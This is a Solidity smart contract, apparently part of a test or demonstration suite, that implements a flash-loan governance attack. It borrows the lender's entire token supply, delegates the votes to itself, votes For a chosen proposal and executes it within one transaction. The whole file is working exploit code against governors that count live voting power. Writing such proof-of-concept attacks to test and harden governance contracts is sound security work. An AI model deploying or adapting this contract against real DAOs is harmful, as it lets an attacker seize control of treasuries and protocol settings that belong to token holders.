// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IGovernor} from "@openzeppelin/contracts/governance/IGovernor.sol";
import {IVotes} from "@openzeppelin/contracts/governance/utils/IVotes.sol";
import {IERC3156FlashLender} from "@openzeppelin/contracts/interfaces/IERC3156FlashLender.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

import {FlashLoanAttacker} from "../shared/FlashLoanAttacker.sol";

/// @title FlashVoteAttacker
/// @notice Borrows every governance token the lender has, delegates the votes to itself, votes For
/// a proposal, executes it if that made it pass, and repays — all in one transaction.
contract FlashVoteAttacker is FlashLoanAttacker {
    event FlashVoted(uint256 indexed proposalId, uint256 borrowed, uint256 weight, bool executed);

    IGovernor public immutable governor;
    IERC20 public immutable token;

    /// @notice The weight the governor counted for the last flash-loaned vote.
    uint256 public lastVoteWeight;

    constructor(
        IERC3156FlashLender lender_,
        IGovernor governor_,
        IERC20 token_
    ) FlashLoanAttacker(lender_) {
        governor = governor_;
        token = token_;
    }

    /// @notice Votes For proposal (targets, values, calldatas, descriptionHash) with borrowed tokens
    /// and executes it when it has passed.
    function attack(
        address[] calldata targets,
        uint256[] calldata values,
        bytes[] calldata calldatas,
        bytes32 descriptionHash
    ) external onlyOwner {
        address tokenAddress = address(token);
        bytes memory data = abi.encode(targets, values, calldatas, descriptionHash);
        lender.flashLoan(this, tokenAddress, lender.maxFlashLoan(tokenAddress), data);
    }

    function _useLoan(uint256 amount, bytes calldata data) internal override {
        (
            address[] memory targets,
            uint256[] memory values,
            bytes[] memory calldatas,
            bytes32 descriptionHash
        ) = abi.decode(data, (address[], uint256[], bytes[], bytes32));
        uint256 proposalId = governor.getProposalId(targets, values, calldatas, descriptionHash);

        IVotes(address(token)).delegate(address(this));
        uint256 weight = governor.castVote(proposalId, 1);
        lastVoteWeight = weight;
        bool executed;
        if (governor.state(proposalId) == IGovernor.ProposalState.Succeeded) {
            governor.execute(targets, values, calldatas, descriptionHash);
            executed = true;
        }
        emit FlashVoted(proposalId, amount, weight, executed);
    }
}
